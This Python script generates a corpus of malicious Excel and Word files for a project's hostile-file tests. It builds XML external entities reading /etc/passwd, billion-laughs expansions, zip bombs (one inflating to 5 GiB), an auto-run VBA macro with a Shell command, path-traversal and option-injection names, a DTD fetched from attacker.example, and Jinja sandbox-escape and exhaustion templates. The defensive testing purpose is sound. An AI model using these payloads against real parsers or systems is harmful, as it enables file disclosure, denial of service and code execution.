"""Build the malicious-file corpus in tests/data/malicious/ (every file small; see tests/test_hostile_files.py).

    .venv/bin/python scripts/make_malicious_corpus.py [--out tests/data/malicious] [--big DIR]

Workbooks: XML external entities and the billion laughs (in a sheet, in workbook.xml, in
styles.xml), zip bombs (a declared size of 3 GiB; a member that inflates far beyond what
its header declares), a value at XFD1048576 (also as 16,384 cells without references), a lying ``<dimension>``, a far row, an .xlsm
whose VBA project would run a shell command, 设置 entries that point a template outside
the folder, unit names that are paths, unit names with control characters; data that becomes
output file names (a 考核名称 that is a LibreOffice option, unit names that collide, names too long
for a file system). Templates: an external picture, a DOCTYPE, and the shapes of
tests/hostile_docx.py (outside links in every spelling, linked pictures, fetching field codes,
altChunk…), a chart's owner, deep nesting, integer squaring.
``--big DIR`` also writes a bomb that really inflates to 5 GiB (5 MB; not committed).
"""

from __future__ import annotations

import argparse
import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from hostile_xlsx import Sheet, write_parts, xlsx_parts  # noqa: E402

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SECRET_URL = "file:///etc/passwd"
#: Written into the VBA project; the corpus test checks that this file never appears.
PWNED = "/tmp/perf_excel_vba_was_run"


def valid_sheets(units: list[list[object]] | None = None, settings: list[list[object]] | None = None) -> list[Sheet]:
    header = ["编码", "维度", "指标名称", "分值", "计分方法", "目标值"]
    units = units or [["U1", "甲单位", "区"], ["U2", "乙单位", "区"]]
    return [
        Sheet("设置", [["项目", "值"], ["考核名称", "2025年度考核"], ["考核年度", 2025], *(settings or [])]),
        Sheet("指标", [header, ["A1", "经济", "甲", 60, "完成比例", 100], ["A2", "经济", "乙", 40, "完成比例", 100]]),
        Sheet("单位", [["编码", "名称", "类别"], *units]),
        Sheet("数据", [["单位编码", "A1", "A2"], *([u[0], 80 + k, 90 - k] for k, u in enumerate(units))]),
    ]


def _sheet_with_doctype(doctype: str, body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [{doctype}]>'
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>编码</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{body}</t></is></c></row></sheetData></worksheet>'
    ).encode()


LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


def _with_part(parts: dict[str, bytes], name: str, data: bytes) -> dict[str, bytes]:
    parts = dict(parts)
    parts[name] = data
    return parts


def _patch_sizes(data: bytes, member: str, size: int) -> bytes:
    """Make ``member`` declare ``size`` bytes (local header and central directory); the data stays."""
    buf = bytearray(data)
    raw = member.encode()
    # Local header: signature, then uncompressed size at offset 22.
    pos = buf.find(b"PK\x03\x04")
    while pos != -1:
        name_len = struct.unpack_from("<H", buf, pos + 26)[0]
        if bytes(buf[pos + 30 : pos + 30 + name_len]) == raw:
            struct.pack_into("<I", buf, pos + 22, size)
        pos = buf.find(b"PK\x03\x04", pos + 4)
    pos = buf.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46 : pos + 46 + name_len]) == raw:
            struct.pack_into("<I", buf, pos + 24, size)
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _bomb_member(size: int) -> tuple[bytes, int]:
    """Raw deflate of ``size`` spaces, compressed in pieces (never held inflated); (data, crc)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b" " * (1 << 20)
    out, crc = [], 0
    for _ in range(size // len(piece)):
        out.append(comp.compress(piece))
        crc = zlib.crc32(piece, crc)
    out.append(comp.flush())
    return b"".join(out), crc


def _append_member(path: Path, parts: dict[str, bytes], member: str, comp: bytes, crc: int, declared: int) -> Path:
    """Write a zip whose ``member`` holds the raw deflate data ``comp`` and declares ``declared`` bytes."""
    out = io.BytesIO()
    central = []
    for name, blob in parts.items():
        raw_name = name.encode()
        if name == member:
            data, size, c, method = comp, declared, crc, 8
        else:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            data = co.compress(blob) + co.flush()
            size, c, method = len(blob), zlib.crc32(blob), 8
        offset = out.tell()
        out.write(
            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, c, len(data), size, len(raw_name), 0)
        )
        out.write(raw_name)
        out.write(data)
        central.append(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                method,
                0,
                0x21,
                c,
                len(data),
                size,
                len(raw_name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )  # fmt: skip
            + raw_name
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    end = out.tell()
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), end - start, start, 0))
    path.write_bytes(out.getvalue())
    return path


# --- output area: data that becomes file names ------------------------------------------------
#: A 考核名称 that LibreOffice would read as an option if the bulletin's name were passed bare.
OPTION_TITLE = "--accept=socket,host=0,port=2002;urp;"
#: Unit codes whose letter names sanitise alike (``:`` and ``/`` become ``_``; ``a_1`` differs only
#: in case), names that are error values or hide bidi and zero-width characters.
COLLIDING_UNITS = [
    ["A:1", "甲单位", "区"],
    ["A1", "甲单位", "区"],
    ["A_1", "甲单位", "区"],
    ["a_1", "甲单位", "区"],
    ["A/1", "甲单位", "区"],
    ["U6", "#N/A", "区"],
    ["U7", "乙\u202e\u200bxcod.exe", "区"],
]
#: Names of 256+ characters and of 80+ Chinese characters gave "File name too long".
LONG_TITLE = "很长的考核名称" * 40
LONG_UNITS = [["L1", "x" * 300, "区"], ["L2", "单" * 90, "区"], ["L3", "单" * 90 + "乙", "区"]]


def _titled(title: str, units: list[list[object]] | None = None) -> dict[str, bytes]:
    sheets = valid_sheets(units)
    sheets[0] = Sheet("设置", [["项目", "值"], ["考核名称", title], ["考核年度", 2025]])
    return xlsx_parts(sheets)


def output_name_workbooks(out: Path) -> list[Path]:
    """The workbooks of the output area: a title that is an option, colliding unit names, long names."""
    out.mkdir(parents=True, exist_ok=True)
    return [
        write_parts(out / "title_option.xlsx", _titled(OPTION_TITLE)),
        write_parts(out / "unit_names_collide.xlsx", _titled("2025年度考核", COLLIDING_UNITS)),
        write_parts(out / "names_long.xlsx", _titled(LONG_TITLE, LONG_UNITS)),
    ]


def build(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    base = xlsx_parts(valid_sheets())

    def save(name: str, parts: dict[str, bytes]) -> None:
        written.append(write_parts(out / name, parts))

    # XML external entities and the billion laughs.
    xxe = f'<!ENTITY xxe SYSTEM "{SECRET_URL}">'
    save("xxe_sheet.xlsx", _with_part(base, "xl/worksheets/sheet4.xml", _sheet_with_doctype(xxe, "&xxe;")))
    save(
        "xxe_workbook.xlsx",
        _with_part(
            base,
            "xl/workbook.xml",
            base["xl/workbook.xml"].replace(
                b"<workbook ", f'<!DOCTYPE workbook [{xxe}]><workbook a="&amp;" '.encode(), 1
            ),
        ),
    )
    save("laughs_sheet.xlsx", _with_part(base, "xl/worksheets/sheet4.xml", _sheet_with_doctype(LAUGHS, "&l9;")))
    save(
        "laughs_styles.xlsx",
        _with_part(
            base,
            "xl/styles.xml",
            base["xl/styles.xml"].replace(b"<styleSheet ", f"<!DOCTYPE styleSheet [{LAUGHS}]><styleSheet ".encode(), 1),
        ),
    )

    # Zip bombs: a declared size beyond the limit; a member inflating far beyond what it declares.
    padded = _with_part(base, "xl/media/pad.bin", b"\0" * 4096)
    (out / "bomb_declared.xlsx").write_bytes(_patch_sizes(_zip(padded), "xl/media/pad.bin", 3 << 30))
    written.append(out / "bomb_declared.xlsx")
    comp, crc = _bomb_member(64 << 20)
    written.append(_append_member(out / "bomb_lying.xlsx", base, "xl/worksheets/sheet4.xml", comp, crc, 1000))

    # Far-away cells and a lying dimension.
    sheets = valid_sheets()
    sheets[3].far = [("XFD1048576", 1)]
    save("far_cell.xlsx", xlsx_parts(sheets))
    sheets = valid_sheets()
    sheets[3].far = [("A1048576", "U9")]
    save("far_row.xlsx", xlsx_parts(sheets))
    sheets = valid_sheets()
    sheets[3].dimension = "A1:XFD1048576"
    save("lying_dimension.xlsx", xlsx_parts(sheets))
    styled = xlsx_parts(valid_sheets())
    styled["xl/worksheets/sheet4.xml"] = styled["xl/worksheets/sheet4.xml"].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
    )
    save("far_styled_empty_cell.xlsx", styled)
    rless = xlsx_parts(valid_sheets())
    cells = b"<c><v>1</v></c>" * 16_384  # no r: placed by counting, A1048576 to XFD1048576
    rless["xl/worksheets/sheet4.xml"] = rless["xl/worksheets/sheet4.xml"].replace(
        b"</sheetData>", b'<row r="1048576">' + cells + b"</row></sheetData>"
    )
    save("far_row_without_refs.xlsx", rless)

    # VBA that would run a shell command if anything executed it.
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + f'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "touch {PWNED}"\r\nEnd Sub\r\n'
        f'Sub Workbook_Open()\r\n  Shell "touch {PWNED}"\r\nEnd Sub\r\n'.encode()
    )
    save("vba_auto_open.xlsm", xlsx_parts(valid_sheets(), vba=vba))

    # Paths in the workbook.
    for name, value in (("template_parent.xlsx", "../../../../etc/passwd"), ("template_absolute.xlsx", "/etc/passwd")):
        save(name, xlsx_parts(valid_sheets(settings=[["通报模板", value], ["反馈单模板", value]])))
    units = [
        ["U1", "../../逃逸单位", "区"],
        ["U2", "/etc/passwd", "区"],
        ["U3", "..\\..\\windows", "区"],
        ["U4", "CON", "区"],
        ["U5", "a/b\\c:d*e?f", "区"],
        ["..", "..", "区"],
    ]
    save("unit_names_paths.xlsx", xlsx_parts(valid_sheets(units=units)))

    # Templates.
    template = (ROOT / "templates" / "bulletin.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(template)) as z:
        tparts = {i.filename: z.read(i) for i in z.infolist()}
    rels = tparts["word/_rels/document.xml.rels"]
    tparts_ext = dict(tparts)
    tparts_ext["word/_rels/document.xml.rels"] = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
        b' Target="' + SECRET_URL.encode() + b'" TargetMode="External"/></Relationships>',
    )
    save("template_external_image.docx", tparts_ext)
    tparts_xxe = dict(tparts)
    doc = tparts["word/document.xml"]
    head, sep, rest = doc.partition(b"?>")
    tparts_xxe["word/document.xml"] = head + sep + f"<!DOCTYPE w:document [{xxe}]>".encode() + rest
    save("template_xxe.docx", tparts_xxe)
    written.extend(build_package_safety(out))
    written += build_template_shapes(out)
    written += output_name_workbooks(out)
    return written


# --- package safety: far cells written otherwise, date cells, encodings, long strings ----------------


def _data_sheet_with(cells: bytes) -> dict[str, bytes]:
    """The valid workbook with ``cells`` (raw XML) added as a last row of 数据."""
    parts = xlsx_parts(valid_sheets())
    parts["xl/worksheets/sheet4.xml"] = parts["xl/worksheets/sheet4.xml"].replace(
        b"</sheetData>", cells + b"</sheetData>"
    )
    return parts


def _requoted_workbook(parts: dict[str, bytes]) -> dict[str, bytes]:
    """workbook.xml and its relationships in single quotes with spaces around ``=``, as XML allows."""
    parts = dict(parts)
    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
        text = parts[name].decode()
        head, sep, body = text.partition("?>")
        parts[name] = (head + sep + re.sub(r'(\s[\w:]+)="([^"]*)"', r"\1 = '\2'", body)).encode()
    return parts


def package_safety_parts() -> dict[str, dict[str, bytes] | bytes]:
    """Name -> parts (or whole file bytes) of each hostile package of this block."""
    out: dict[str, dict[str, bytes] | bytes] = {}
    out["far_cell_lowercase.xlsx"] = _data_sheet_with(b'<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>')
    out["far_cell_leading_zeros.xlsx"] = _data_sheet_with(b'<row r="1048576"><c r="XFD0001048576"><v>1</v></c></row>')
    out["far_row_8_digits.xlsx"] = _data_sheet_with(b'<row r="10000000"><c r="A10000000"><v>1</v></c></row>')
    out["far_cell_single_quotes.xlsx"] = _data_sheet_with(b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")
    out["far_cell_spaced_eq.xlsx"] = _data_sheet_with(b'<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>')
    out["far_cell_quoted_rels.xlsx"] = _requoted_workbook(
        _data_sheet_with(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    )
    unmapped = xlsx_parts(valid_sheets())
    unmapped["xl/worksheets/sheet9.xml"] = unmapped["xl/worksheets/sheet4.xml"].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    out["far_cell_unmapped_part.xlsx"] = unmapped
    # Style 1 is numFmtId 14 (a date): python-calamine panics turning -1e20 into a date.
    out["date_cell_minus_1e20.xlsx"] = _data_sheet_with(b'<row r="4"><c r="B4" s="1"><v>-1E+20</v></c></row>')
    base = xlsx_parts(valid_sheets())
    out["doctype_split.xlsx"] = {**base, "xl/worksheets/sheet4.xml": _split_doctype(base["xl/worksheets/sheet4.xml"])}
    utf16 = dict(base)
    utf16["xl/worksheets/sheet4.xml"] = (
        _sheet_with_doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")
        .decode()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16")
    )
    out["utf16_sheet.xlsx"] = utf16
    # One shared string of 8 MB (the attack used 900 MB; compressed, either is a few kilobytes).
    sst = dict(base)
    sst["xl/sharedStrings.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
        + b"A" * (8 << 20)
        + b"</t></si></sst>"
    )
    sst["xl/worksheets/sheet4.xml"] = sst["xl/worksheets/sheet4.xml"].replace(
        b"</sheetData>", b'<row r="4"><c r="B4" t="s"><v>0</v></c></row></sheetData>'
    )
    sst["[Content_Types].xml"] = sst["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    sst["xl/_rels/workbook.xml.rels"] = sst["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    out["long_shared_string.xlsx"] = sst
    return out


def _split_doctype(xml: bytes) -> bytes:
    """``xml`` with a DOCTYPE split across the boundary of the second and third 1 MB pieces inflated,
    after a megabyte without ">" (the first piece ends with the ">" of a comment)."""
    mb = 1 << 20
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<!--'
    head += b" " * (mb - len(head) - 3) + b"-->"
    root = xml.partition(b"?>")[2].lstrip()
    name = root[1 : root.find(b" ")]
    doctype = b"<!DOCTYPE " + name + b' SYSTEM "http://attacker.example/evil.dtd">'
    return head + b" " * (mb - 4) + doctype + root


def build_package_safety(out: Path) -> list[Path]:
    written = []
    template = (ROOT / "templates" / "bulletin.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(template)) as z:
        tparts = {i.filename: z.read(i) for i in z.infolist()}
    tparts["word/document.xml"] = _split_doctype(tparts["word/document.xml"])
    written.append(write_parts(out / "template_doctype_split.docx", tparts))
    for name, parts in package_safety_parts().items():
        if isinstance(parts, bytes):
            (out / name).write_bytes(parts)
            written.append(out / name)
        else:
            written.append(write_parts(out / name, parts))
    return written


# --- Templates: sandbox, links to outside files, nesting, integers, control characters (area: templates) ---


def _jinja_template(base: str, payload: str) -> dict[str, bytes]:
    from xml.sax.saxutils import escape

    from hostile_docx import NS, base_parts, in_body

    return in_body(base_parts(base), f"<w:p {NS}><w:r><w:t>{escape(payload)}</w:t></w:r></w:p>")


def build_template_shapes(out: Path) -> list[Path]:
    """Templates that link to outside files (every spelling, tests/hostile_docx.py), that reach an
    object of the program through the letter's chart, nest too deep, square a number until it
    cannot be computed; a workbook whose unit names hold control characters."""
    from hostile_docx import RENDERED_SHAPES, SHAPES, base_parts

    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (shape, _) in {**SHAPES, **RENDERED_SHAPES}.items():
        written.append(write_parts(out / name, shape(base_parts("bulletin.docx"))))
    jinja = {
        "template_picture_owner.docx": (
            "letter.docx",
            "{{ chart.owner.render_to({}, '/tmp/perf_excel_template_escape/x.docx') }}",
        ),
        "template_deep_nesting.docx": ("bulletin.docx", "{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000),
        "template_int_squaring.docx": (
            "bulletin.docx",
            "{% set ns = namespace(x=3) %}{% for i in range(60) %}{% set ns.x = ns.x * ns.x %}{% endfor %}{{ ns.x }}",
        ),
    }
    for name, (base, payload) in jinja.items():
        written.append(write_parts(out / name, _jinja_template(base, payload)))
    units = [
        ["U1", "甲\x01单位", "区"],
        ["U2", "乙\x0b单位", "区"],
        ["U3", "丙\x00单位", "区"],
        ["U4", "丁\x07\x0c单位", "区"],
    ]
    written.append(write_parts(out / "unit_names_control.xlsx", xlsx_parts(valid_sheets(units=units))))
    return written


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=str(ROOT / "tests" / "data" / "malicious"))
    ap.add_argument(
        "--big", metavar="DIR", help="also write a bomb that inflates to --big-gib GiB (not for committing)"
    )
    ap.add_argument("--big-gib", type=float, default=5.0)
    args = ap.parse_args(argv)
    for path in build(Path(args.out)):
        print(f"{path.name:32} {path.stat().st_size:>10,} bytes")
    if args.big:
        size = int(args.big_gib * (1 << 30))
        comp, crc = _bomb_member(size)
        sheets = xlsx_parts(valid_sheets())
        # The header declares 1,000 bytes; the data inflates to ``size`` (5 GiB by default).
        big = _append_member(Path(args.big) / "bomb_big.xlsx", sheets, "xl/worksheets/sheet4.xml", comp, crc, 1000)
        print(f"{big.name:32} {big.stat().st_size:>10,} bytes (inflates to {args.big_gib:g} GiB)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
